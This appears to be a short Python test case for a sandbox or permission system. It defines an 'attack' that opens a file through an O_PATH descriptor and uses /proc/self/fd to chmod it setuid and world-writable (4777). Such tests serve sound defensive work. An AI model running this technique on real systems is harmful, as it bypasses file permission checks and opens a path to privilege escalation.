# Through a descriptor that gives no right to the content.
import os

from inside import run


def attack(target):
    fd = os.open(target.file, os.O_PATH)
    os.chmod(f"/proc/self/fd/{fd}", 0o4777)


run(attack)
